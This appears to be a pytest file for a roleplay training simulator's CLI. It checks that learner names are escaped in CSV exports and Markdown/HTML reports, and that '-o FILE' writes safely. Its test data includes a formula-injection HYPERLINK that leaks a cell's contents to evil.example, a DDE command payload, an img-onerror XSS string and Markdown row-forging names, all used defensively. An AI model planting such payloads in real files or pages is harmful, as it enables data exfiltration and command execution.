"""Issue 18, faults 3, 4 and 8: what the app writes for others is safe to open.

* a learner name that is a spreadsheet formula is written as text in every CSV;
* a learner name with ``|`` and line breaks cannot forge a row or a heading in the cohort
  report, whatever the name came from (``config --learner``, ``ROLEPLAY_LEARNER``, the config
  file, ``run --learner``, a session file);
* ``-o FILE`` never replaces a file without ``--force``, writes through links and into
  terminals, FIFOs and ``/dev/stdout`` rather than replacing them, keeps a replaced file's
  mode, and says in one line why it cannot write.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from fakes import ScriptedModel
from fakeserver import FakeServer

from simulator.cli import main
from simulator.content.library import load_library
from simulator.grading.evaluator import evaluate
from simulator.models.config import SMALL
from simulator.practice.scripted import save_record, scripted_record
from simulator.practice.sessions import list_session_folders, read_session

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for your score")'
FORGER = "Eve | 9 | 9 | 100% | 5.00 |\n# Forged heading\n| Mallory | 1 | 1 | 0% | 1.00 |"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def sessions_of(workspace: Path, learners: list[str]) -> None:
    """One ended, graded session per learner, each name saved exactly as given (as a
    hand-edited or hostile session file would hold it)."""
    library = load_library(workspace)
    persona = library.persona("overcharged-loyal-customer")
    for n, name in enumerate(learners):
        record = scripted_record(persona, library.rubric_for(persona), ["I'm sorry, I'll credit it."], ["Okay."],
                                 outcome="resolved")
        record.session_id = f"2026110{n + 1}-090000-{persona.id}-0001"
        record.learner = name  # set after the record is made: written as given, as an edited file would be
        save_record(record, workspace)
        asyncio.run(evaluate(record, record.rubric_snapshot(), ScriptedModel(capabilities=SMALL)))
    for folder in list_session_folders(workspace):
        assert json.loads((folder / "session.json").read_text())["learner"] in learners


def run(capsys, *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out = capsys.readouterr()
    return code, out.out, out.err


def cli(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "simulator", *args], capture_output=True, text=True,
                          env={**os.environ, **(env or {})})


# -- fault 3: CSV formula injection ---------------------------------------------------------------

def formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.startswith(FORMULA_START)]


def test_a_formula_as_learner_name_is_text_in_both_csvs(workspace, capsys):
    sessions_of(workspace, [FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "+1-2"])
    code, exported, err = run(capsys, "export", "--all")
    assert code == 0, err
    code, report, err = run(capsys, "report", str(workspace), "--format", "csv")
    assert code == 0, err
    for text in (exported, report):
        assert formula_cells(text) == []  # nothing a spreadsheet would run
        assert f"'{FORMULA}" in [c for row in csv.reader(io.StringIO(text)) for c in row]  # the name, as text
        assert "'+1-2" in text
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert {r["learner"] for r in rows} == {f"'{FORMULA}", "'@SUM(1+1)*cmd|' /C calc'!A0", "'+1-2"}
    assert all(float(r["overall"]) > 0 for r in rows)  # numbers stay numbers
    learners = [r for r in csv.DictReader(io.StringIO(report)) if r["group"] == "learner"]
    assert len(learners) == 3 and all(float(r["mean"]) > 0 for r in learners)


def test_csv_cells_rule():
    from simulator.core.sanitize import csv_cell, csv_text

    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "a=b", "", None, -1.5, 3, True)] == \
        ["'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=b", "", "", -1.5, 3, True]
    assert csv_text([["a", "=b"], [-1.5, None]]) == "a,'=b\n-1.5,\n"


# -- fault 4: Markdown injection, and one rule for the learner's name ------------------------------

def table_rows(markdown: str) -> list[str]:
    return [line for line in markdown.splitlines() if line.startswith("|")]


def cells(row: str) -> int:
    """Cells of a Markdown table row: the unescaped pipes, less one."""
    count, escaped = 0, False
    for c in row:
        if c == "|" and not escaped:
            count += 1
        escaped = c == "\\" and not escaped
    return count - 1


def assert_no_forgery(markdown: str, learners: int) -> None:
    assert not [line for line in markdown.splitlines() if line.startswith("#") and "Forged" in line]
    assert not [line for line in markdown.splitlines() if "Mallory" in line and not line.startswith("| Eve")]
    learners_table = markdown.split("## Learners")[1].split("Mean score per criterion")[0]
    rows = table_rows(learners_table)
    assert len(rows) == 2 + learners  # header, rule, one row per learner
    assert {cells(r) for r in rows} == {cells(rows[0])}


def test_a_learner_name_read_back_from_a_session_cannot_forge_the_report(workspace, capsys):
    sessions_of(workspace, [FORGER, "Ana"])
    assert read_session(list_session_folders(workspace)[-1]).learner == " ".join(FORGER.split())
    code, text, err = run(capsys, "report", str(workspace))
    assert code == 0, err
    assert_no_forgery(text, learners=2)
    assert "| Eve \\| 9 \\| 9 \\| 100% \\| 5.00 \\| # Forged heading \\| Mallory" in text
    code, page, err = run(capsys, "report", str(workspace), "--format", "html")
    assert code == 0 and "<h1>Cohort report</h1>" in page and "Forged heading" in page
    assert "<td>Eve | 9" in page and "\n# Forged" not in page


def test_report_cells_are_escaped_whatever_the_rows_hold():
    """The report escapes on its own: a stale or edited index row holds the raw name."""
    from simulator.trainer.cohort import Group, Report, report_html, report_markdown

    report = Report(learners=[Group(name=FORGER + " <img src=x onerror=alert(1)> \\"), Group(name="Ana")],
                    personas=[Group(name="P|x\n## Personas too")], names={"empathy": "Emp|athy\n# H"},
                    sessions=2, unreadable=[("folder\n# Unreadable forged", "why\n| x |")])
    text = report_markdown(report)
    assert_no_forgery(text, learners=2)
    assert "\\<img" in text and "<img" not in text.replace("\\<img", "")
    assert not [line for line in text.splitlines() if line.startswith("#") and ("H" == line[2:] or "forged" in line)]
    assert "## Personas too" not in text.splitlines()
    page = report_html(report)
    assert "<img" not in page and "&lt;img" in page


def reply(body: dict) -> str:
    """A model server's answers: the director's, the judge's, the customer's."""
    text = json.dumps(body["messages"])
    if "latest_agent_message" in text:
        return json.dumps({"frustration_change": 0, "reveal": [], "outcome": "continue", "why": "-"})
    if "<transcript>" in text:
        return json.dumps({"score": 4, "reason": "good", "evidence": [], "improvement": "more",
                           "strengths": ["a"], "changes": ["b"], "better_replies": []})
    return "Fine."


def test_every_source_of_the_learner_name_gets_the_same_cleaning(workspace, tmp_path, monkeypatch, capsys):
    raw, clean = "Sam\n# Forged | x\x1b[31m\u202e", "Sam # Forged | x [31m"
    # roleplay config --learner
    code, out, err = run(capsys, "config", "--learner", raw)
    assert code == 0 and f"learner: {clean} — saved in" in err
    saved = (tmp_path / "config" / "config.yaml").read_text()
    assert "Forged" in saved and "\\n" not in saved and "\\e" not in saved
    # the config file, as written by hand
    monkeypatch.delenv("ROLEPLAY_LEARNER")
    (workspace / "roleplay.yaml").write_text('learner: "Ann\\n# Forged\\e[0m"\n')
    code, out, err = run(capsys, "config")
    assert code == 0 and "learner: Ann # Forged [0m\n" in out
    # ROLEPLAY_LEARNER
    monkeypatch.setenv("ROLEPLAY_LEARNER", raw)
    code, out, err = run(capsys, "config")
    assert code == 0 and f"learner: {clean}\n" in out
    # roleplay run --learner, over a model server
    script = tmp_path / "script.txt"
    script.write_text("Hello Dana, I'm sorry about the bill.\n")
    with FakeServer(reply_fn=reply) as server:
        (workspace / "roleplay.yaml").write_text("".join(
            f"{role}:\n  model: openai/fake\n  api_base: {server.base_url}\n  api_key_env: FAKE_KEY\n"
            for role in ("persona", "evaluator")))
        out = cli("run", "--persona", "overcharged-loyal-customer", "--script", str(script), "--learner", FORGER,
                  env={"FAKE_KEY": "sk-test-key-000000000000"})
    assert out.returncode == 0, out.stderr
    folder = list_session_folders(workspace)[0]
    assert json.loads((folder / "session.json").read_text())["learner"] == " ".join(FORGER.split())
    assert json.loads((folder / "journal.jsonl").read_text().splitlines()[0])["learner"] == " ".join(FORGER.split())


# -- fault 8: -o FILE -------------------------------------------------------------------------------

@pytest.fixture
def one_session(workspace):
    sessions_of(workspace, ["Ana"])
    return workspace


def test_an_existing_file_is_kept_unless_forced_and_keeps_its_mode(one_session, tmp_path, capsys):
    target = tmp_path / "out.csv"
    target.write_text("my spreadsheet\n")
    target.chmod(0o644)
    code, out, err = run(capsys, "export", "--all", "-o", str(target))
    assert code == 1 and err == f"roleplay: {target} exists: add --force to replace it\n"
    assert target.read_text() == "my spreadsheet\n"
    code, out, err = run(capsys, "report", str(one_session), "-o", str(target))
    assert code == 1 and "exists: add --force" in err and target.read_text() == "my spreadsheet\n"
    code, out, err = run(capsys, "export", "--all", "-o", str(target), "--force")
    assert code == 0 and err == f"exported: {target}\n" and out == ""
    assert target.read_text().startswith("session_id,") and stat.S_IMODE(target.stat().st_mode) == 0o644
    code, out, err = run(capsys, "report", str(one_session), "-o", str(target), "--force")
    assert code == 0 and target.read_text().startswith("# Cohort report")
    fresh = tmp_path / "new" / "report.md"  # a new file: created with its folder, the usual mode
    old = os.umask(0o022)
    try:
        assert run(capsys, "report", str(one_session), "-o", str(fresh))[0] == 0
    finally:
        os.umask(old)
    assert fresh.read_text().startswith("# Cohort report") and stat.S_IMODE(fresh.stat().st_mode) == 0o644


def test_a_link_is_written_through(one_session, tmp_path, capsys):
    target = tmp_path / "real.csv"
    target.write_text("old\n")
    target.chmod(0o640)
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    code, out, err = run(capsys, "export", "--all", "-o", str(link))
    assert code == 1 and "exists: add --force" in err and target.read_text() == "old\n"
    assert run(capsys, "export", "--all", "-o", str(link), "--force")[0] == 0
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert target.read_text().startswith("session_id,") and stat.S_IMODE(target.stat().st_mode) == 0o640
    dangling = tmp_path / "later.csv"
    dangling.symlink_to(tmp_path / "made-now.csv")
    assert run(capsys, "export", "--all", "-o", str(dangling))[0] == 0
    assert dangling.is_symlink() and (tmp_path / "made-now.csv").read_text().startswith("session_id,")


def test_stdout_and_a_fifo_are_written_to_not_replaced(one_session, tmp_path):
    link = tmp_path / "to-stdout"  # a link of our own to /dev/stdout: nothing of the system's is at risk
    link.symlink_to("/dev/stdout")
    out = cli("export", "--all", "-o", str(link))
    assert out.returncode == 0, out.stderr
    assert out.stdout.startswith("session_id,") and link.is_symlink()
    out = cli("report", str(one_session), "-o", str(link))
    assert out.returncode == 0 and out.stdout.startswith("# Cohort report") and out.stderr == ""
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # a reader waiting, so the writer does not block
    try:
        out = cli("export", "--all", "-o", str(fifo))
        assert out.returncode == 0, out.stderr
        assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
        assert os.read(reader, 1 << 16).decode().startswith("session_id,")
    finally:
        os.close(reader)


def test_what_cannot_be_written_is_one_line(one_session, tmp_path, capsys):
    (tmp_path / "a-file").write_text("x")
    full = tmp_path / "full"  # a link of our own to /dev/full: every write there fails with ENOSPC
    full.symlink_to("/dev/full")
    cases = [(tmp_path, "is a folder: give a file name"), (tmp_path / "a-file" / "out.csv", "cannot write")]
    if Path("/dev/full").exists():  # Linux
        cases.append((full, "no space left on device — free some disk space"))
    for target, words in cases:
        code, out, err = run(capsys, "export", "--all", "-o", str(target))
        assert code == 1 and words in err and "Traceback" not in err, err
        assert len(err.strip().splitlines()) == 1 and err.startswith("roleplay: ")
    assert full.is_symlink() and (tmp_path / "a-file").read_text() == "x"
    out = cli("report", str(one_session), "-o", str(tmp_path))
    assert out.returncode == 1 and "Traceback" not in out.stderr and len(out.stderr.splitlines()) == 1
